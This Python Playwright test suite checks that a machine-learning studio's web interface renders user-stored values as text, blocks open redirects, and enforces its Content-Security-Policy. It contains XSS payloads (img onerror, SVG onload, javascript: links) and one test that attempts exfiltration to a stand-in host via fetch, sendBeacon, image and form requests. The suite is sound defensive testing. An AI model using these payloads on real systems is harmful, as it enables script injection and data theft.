"""What users write is text on every page that shows it, and what they store is nothing that runs.

Pages are opened without their Content-Security-Policy, which is the second line of defence: what a page took for
markup would run, and be seen. Then the policy itself is tried, with markup put where pages have none. Source: OWASP
cheat sheet "Cross Site Scripting Prevention".
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Studio
from tests.conftest import PROBE, Jobs, Server
from tests.endpoints import ECHO, Endpoints
from tests.pipelines import Pipelines, defined, fail, parameter
from tests.studio import link

TRUST = """{"Version": "2012-10-17", "Statement": [
  {"Effect": "Allow", "Principal": {"Service": "sagemaker.amazonaws.com"}, "Action": "sts:AssumeRole"}]}"""
PROGRAM = "document.title = window.pwned = 'it ran'"


def evil(what: str) -> str:
    """A piece of markup that tells where it became one."""
    return f"<img class=injected src=x onerror=\"pwned='{what}'\">"


def unspaced(what: str) -> str:
    """The same for words that hold no blanks and no quotes. Source: HTML, "Parsing", a slash separates attributes."""
    return f"<img/class=injected/src=x/onerror=pwned=`{what}`>"


@pytest.fixture(scope="module")
def unguarded(salvia: Server, tab: Callable[..., Studio]) -> Studio:
    """The administrator's tab, in which no Content-Security-Policy holds."""
    return tab(salvia, sign_in=link(salvia.client("salvia")), bypass_csp=True)


@pytest.fixture
def naked(unguarded: Studio) -> Iterator[Studio]:
    """The same; at the end nothing has become markup, and nothing has run."""
    unguarded.trouble.clear()
    yield unguarded
    expect(unguarded.page.locator(".injected, a[href^='javascript' i]")).to_have_count(0)
    unguarded.unharmed()


def test_without_its_policy_a_browser_runs_what_is_markup(unguarded: Studio) -> None:
    """Else the tests below could not fail."""
    unguarded.open("/", "Home")
    unguarded.page.evaluate("text => document.body.insertAdjacentHTML('beforeend', text)", evil("it"))
    unguarded.page.wait_for_function("window.pwned === 'it'")


def test_a_failed_job(naked: Studio, jobs: Jobs) -> None:
    """Hyperparameters, environment, inputs, log lines, metrics' names, FailureReason; on Home and in a clone, too."""
    jobs.s3.put_object(Bucket=jobs.bucket, Key=f"{evil('key')}/a", Body=b"a")
    source = {"S3DataType": "S3Prefix", "S3Uri": f"s3://{jobs.bucket}/{evil('key')}"}
    code = f"""
import time
for step in range(3):
    print('rmse=0.%d' % step, {evil("log line")!r}, flush=True)
open('/opt/ml/output/failure', 'w').write({evil("failure")!r})
raise SystemExit(3)
"""
    name = jobs.start(
        code,
        Environment={"NOTE": evil("environment")},
        InputDataConfig=[{"ChannelName": "train", "DataSource": {"S3DataSource": source}, "ContentType": evil("type")}],
        AlgorithmSpecification={
            "TrainingImage": PROBE,
            "TrainingInputMode": "File",
            "MetricDefinitions": [{"Name": evil("metric"), "Regex": "rmse=([0-9.]+)"}],
        },
        wait=True,
    )
    naked.open(f"/training-jobs/{name}", name)
    expect(naked.page.get_by_text(evil("failure")).first).to_be_visible()
    expect(naked.page.get_by_role("log")).to_contain_text(evil("log line"))
    expect(naked.page.get_by_role("figure").get_by_text(evil("metric")).first).to_be_visible()
    naked.open(f"/training-jobs/{name}?tab=configuration", name)
    for what in ("key", "type", "environment"):
        expect(naked.page.get_by_text(evil(what)).first).to_be_visible()
    naked.open(f"/training-jobs/{name}?tab=code", name)
    expect(naked.page.get_by_role("group", name="AWS CLI")).to_contain_text("pwned=")
    naked.open(f"/training-jobs/create?from={name}", f"Clone {name}")
    expect(naked.page.get_by_label("Value of NOTE").first).to_have_value(evil("environment"))
    naked.open("/", "Home")
    expect(naked.page.get_by_text(evil("failure")).first).to_be_visible()


def test_hyperparameters_and_users_paths(naked: Studio, jobs: Jobs, salvia: Server) -> None:
    """A role's ARN is proposed where one is asked for, with its path."""
    iam: Any = salvia.client("iam")
    name, path = f"by-{jobs.bucket[-6:]}", f"/{unspaced('path')}/"
    iam.create_role(RoleName=name, Path=path, Description="x", AssumeRolePolicyDocument=TRUST)
    iam.update_role(RoleName=name, Description="&lt;img class=injected&gt;")
    iam.create_user(UserName=name, Path=path)
    iam.create_policy(PolicyName=name, Description=evil("policy"), PolicyDocument=_statement("policy"))
    iam.put_user_policy(UserName=name, PolicyName="own", PolicyDocument=_statement("user"))
    for kind, shown in (
        ("users", name),
        ("roles", name),
        ("policies", f"arn:aws:iam::123456789012:policy/{name}"),
    ):
        naked.open(f"/{kind}", kind.title())
        naked.page.get_by_label("Find", exact=True).fill(name)
        naked.page.keyboard.press("Enter")
        expect(naked.page.get_by_role("link", name=name)).to_be_visible()
        naked.open(f"/{kind}/show?name={quote(shown, safe='')}", name)
        said = unspaced("policy") if kind == "policies" else unspaced("path")
        expect(naked.page.get_by_text(said).first).to_be_visible()
    expect(naked.page.get_by_text(evil("policy")).first).to_be_visible()
    naked.open(f"/roles/show?name={name}", name)
    expect(naked.page.get_by_text("&lt;img class=injected&gt;").first).to_be_visible()
    naked.open("/training-jobs/create", "Create training job")
    naked.page.get_by_role("combobox", name="Role").fill(name)
    expect(naked.page.get_by_role("option").filter(has_text=unspaced("path")).first).to_be_visible()

    started = jobs.start("print(1)", HyperParameters={evil("name")[:256]: evil("hyperparameter")}, wait=True)
    naked.open(f"/training-jobs/{started}?tab=configuration", started)
    for what in ("name", "hyperparameter"):
        expect(naked.page.get_by_text(evil(what)).first).to_be_visible()


def _statement(sid: str) -> str:
    said = {"Effect": "Allow", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{unspaced(sid)}"}
    return json.dumps({"Version": "2012-10-17", "Statement": [said]})


def test_a_pipeline(naked: Studio, salvia: Server) -> None:
    """Descriptions, a step's name and message, parameters' values."""
    pipelines = Pipelines(salvia)
    steps = [fail("Complain", evil("message"), DisplayName=evil("step"), Description=evil("of the step"))]
    mood = parameter("Mood", DefaultValue=evil("default"), EnumValues=[evil("default"), evil("choice")])
    name = pipelines.create(defined(steps, [mood]), PipelineDescription=evil("description"))
    execution = pipelines.start(name, {"Mood": evil("choice")}, PipelineExecutionDescription=evil("run"))
    assert pipelines.ended(execution)["PipelineExecutionStatus"] == "Failed"
    for path, said in (
        ("", ["description"]),
        ("?tab=steps", ["step"]),
        ("?tab=definition", ["default"]),
        (f"/{execution.rpartition('/')[2]}", ["message", "step", "choice"]),
    ):
        naked.open(f"/pipelines/{name}{path}")
        for what in said:
            expect(naked.page.get_by_text(evil(what)).first).to_be_visible()
    naked.page.get_by_role("button", name=f"{evil('step')} Failed").click()
    expect(naked.page.get_by_text(evil("of the step")).first).to_be_visible()
    naked.open(f"/pipelines/{name}")
    naked.button("Start").click()
    dialog = naked.page.get_by_role("dialog")
    dialog.get_by_role("button", name=evil("default")).click()
    expect(naked.page.get_by_role("option", name=evil("choice"))).to_be_visible()


def test_a_model_its_version_and_what_it_answers(naked: Studio, salvia: Server) -> None:
    endpoints = Endpoints(salvia)
    model = endpoints.model(NOTE=evil("model"))
    naked.open(f"/models/{model}", model)
    expect(naked.page.get_by_text(evil("model")).first).to_be_visible()

    name = endpoints.create(endpoints.config(endpoints.variant(model)))
    naked.open(f"/endpoints/{name}?tab=invoke")
    naked.page.get_by_role("textbox", name="Payload").fill(evil("answer").replace('"', "'"))
    naked.button("Invoke").click()
    expect(naked.page.get_by_role("group", name="Answer")).to_contain_text("<img class=injected")
    endpoints.delete(name)

    group = f"Group-{endpoints.bucket[-6:]}"
    sagemaker = endpoints.sagemaker
    sagemaker.create_model_package_group(ModelPackageGroupName=group, ModelPackageGroupDescription=evil("group"))
    report = {evil("measure"): {"value": 4.5}}
    endpoints.s3.put_object(Bucket=endpoints.bucket, Key="report.json", Body=json.dumps(report).encode())
    statistics = {"ContentType": "application/json", "S3Uri": f"s3://{endpoints.bucket}/report.json"}
    package = sagemaker.create_model_package(
        ModelPackageGroupName=group,
        ModelPackageDescription=evil("version"),
        ModelMetrics={"ModelQuality": {"Statistics": statistics}},
        InferenceSpecification={
            "Containers": [
                {
                    "Image": ECHO,
                    "ModelDataUrl": f"s3://{endpoints.bucket}/model.tar.gz",
                    "Environment": {"NOTE": evil("container")},
                }
            ],
            "SupportedContentTypes": [evil("takes")],
            "SupportedResponseMIMETypes": ["text/csv"],
        },
    )["ModelPackageArn"]
    sagemaker.update_model_package(
        ModelPackageArn=package, ModelApprovalStatus="Rejected", ApprovalDescription=evil("reason")
    )
    naked.open(f"/model-package-groups/{group}")
    expect(naked.page.get_by_text(evil("group")).first).to_be_visible()
    naked.open(f"/model-package-groups/{group}/1")
    for what in ("version", "measure", "container", "takes", "reason"):
        expect(naked.page.get_by_text(evil(what)).first).to_be_visible()


def test_views_scripts_and_addresses(naked: Studio, salvia: Server) -> None:
    """A saved view's name, an editor's text, and what stands in the address itself."""
    encoded = quote(evil("address"), safe="")
    for path in (
        f"/{encoded}",
        f"/training-jobs/{encoded}",
        f"/training-jobs?find={encoded}",
        f"/users/show?name={encoded}",
        f"/data/browse?bucket={encoded}&prefix={encoded}",
        f"/data/object?bucket=a&key={encoded}",
    ):
        naked.open(path)
        expect(naked.page.get_by_role("main").first).to_be_visible()
        expect(naked.page.locator(".injected")).to_have_count(0)
    naked.open("/training-jobs", "Training jobs")
    naked.button("Views").click()
    naked.page.get_by_role("menuitem", name="Save").first.click()
    naked.page.get_by_role("dialog").get_by_role("textbox").fill(evil("view"))
    naked.page.get_by_role("dialog").get_by_role("button", name="Save").click()
    expect(naked.button(evil("view"))).to_be_visible()
    naked.page.reload()
    naked.button(evil("view")).click()
    expect(naked.page.get_by_text(f"Delete “{evil('view')}”")).to_be_visible()


@pytest.mark.parametrize(
    "to", ["javascript:window.pwned=1", "//evil.example/", "/\\evil.example/", "https://evil.example/"]
)
def test_a_link_leads_to_a_page_of_studios_alone(naked: Studio, salvia: Server, to: str) -> None:
    naked.page.goto(link(salvia.client("salvia")).replace("/link#", f"/link?to={quote(to, safe='')}#"))
    expect(naked.page.get_by_role("heading", name="Home", exact=True)).to_be_visible()
    assert naked.page.url.startswith(naked.origin + "/")


@pytest.mark.parametrize("kind", ["csv", "json", "html", "svg", "txt"])
def test_objects_and_their_keys(naked: Studio, jobs: Jobs, kind: str) -> None:
    body = {
        "csv": f"name\n{evil('cell')}\n",
        "json": json.dumps({"note": evil("cell")}),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PROGRAM}">{evil("cell")}</svg>',
    }.get(kind, evil("cell"))
    folder = f"{evil(kind)}/"
    jobs.s3.put_object(Bucket=jobs.bucket, Key=f"{folder}a.{kind}", Body=body.encode())
    naked.open(f"/data/browse?bucket={jobs.bucket}&prefix={quote(folder, safe='')}")
    expect(naked.page.get_by_role("heading", name=folder.rpartition("/")[0][-10:]).first).to_be_visible()
    naked.page.get_by_role("link", name=f"a.{kind}").click()
    expect(naked.page.get_by_role("group", name=f"Content of {folder}a.{kind}")).to_contain_text("class=injected")


def test_the_policy_stops_what_would_be_markup(studio: Studio, jobs: Jobs) -> None:
    """Inline programs, handlers, addresses that are programs, other hosts' scripts, frames; and data on its way out."""
    studio.open("/", "Home")
    elsewhere = f"http://elsewhere.example:{studio.server.port}"
    asked: list[str] = []
    studio.page.on("response", lambda answer: asked.append(answer.url))
    tries = """async ([markup, url]) => {
      document.body.insertAdjacentHTML('beforeend', markup);
      const add = (tag, rest) => document.body.append(Object.assign(document.createElement(tag), rest));
      add('script', {textContent: 'window.pwned = 1'});
      add('script', {src: url + '/a.js'});
      add('script', {src: 'data:text/javascript,window.pwned=1'});
      add('script', {src: URL.createObjectURL(new Blob(['window.pwned = 1']))});
      add('iframe', {srcdoc: '<script>top.pwned = 1</script>'});
      add('iframe', {src: url});
      add('object', {data: url});
      add('img', {src: url + '/?stolen'});
      add('base', {href: url});
      add('link', {rel: 'stylesheet', href: url + '/a.css'});
      const link = Object.assign(document.createElement('a'), {href: 'javascript:window.pwned=1'});
      document.body.append(link);
      link.click();
      await fetch(url + '/?stolen').catch(() => 0);
      navigator.sendBeacon(url + '/?stolen', 'x');
      const form = Object.assign(document.createElement('form'), {action: url, method: 'post'});
      document.body.append(form);
      form.submit();
      await new Promise(done => setTimeout(done, 500));
      return [window.pwned === undefined, document.baseURI];
    }"""
    assert studio.page.evaluate(tries, [evil("it"), elsewhere]) == [True, studio.origin + "/"]
    assert [url for url in asked if elsewhere in url] == []
    assert len([said for said in studio.trouble if "Content Security Policy" in said]) >= 10
    studio.trouble.clear()


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml"])
def test_an_object_opened_by_its_presigned_url_runs_nothing(studio: Studio, jobs: Jobs, kind: str) -> None:
    """In a new tab of a browser that is signed in to Studio; stored as that type, or said to be it by the URL alone."""
    script = f"<script>{PROGRAM}</script><form action='/'><button>Send</button></form>"
    title, xmlns = "<title>stored</title>", "http://www.w3.org"
    body = {
        "text/html": f"<!doctype html>{title}<body onload={PROGRAM!r}>{script}",
        "image/svg+xml": f'<svg xmlns="{xmlns}/2000/svg" onload="{PROGRAM}">{title}<script>{PROGRAM}</script></svg>',
    }.get(kind, f'<html xmlns="{xmlns}/1999/xhtml"><head>{title}</head><body>{script}</body></html>')
    jobs.s3.put_object(Bucket=jobs.bucket, Key="stored", Body=body.encode(), ContentType=kind)
    jobs.s3.put_object(Bucket=jobs.bucket, Key="plain", Body=body.encode(), ContentType="text/plain")
    asked = ({"Key": "stored"}, {"Key": "plain", "ResponseContentType": kind, "ResponseContentDisposition": "inline"})
    page = studio.context.new_page()
    for more in asked:
        url = jobs.s3.generate_presigned_url("get_object", Params={"Bucket": jobs.bucket, **more})
        page.goto(url.replace("127.0.0.1", "localhost"))
        assert page.title() == "stored"
        assert page.evaluate("[window.pwned, window.origin]") == [None, "null"]
        with pytest.raises(Exception, match="sandboxed"):
            page.evaluate("document.cookie")
    page.close()
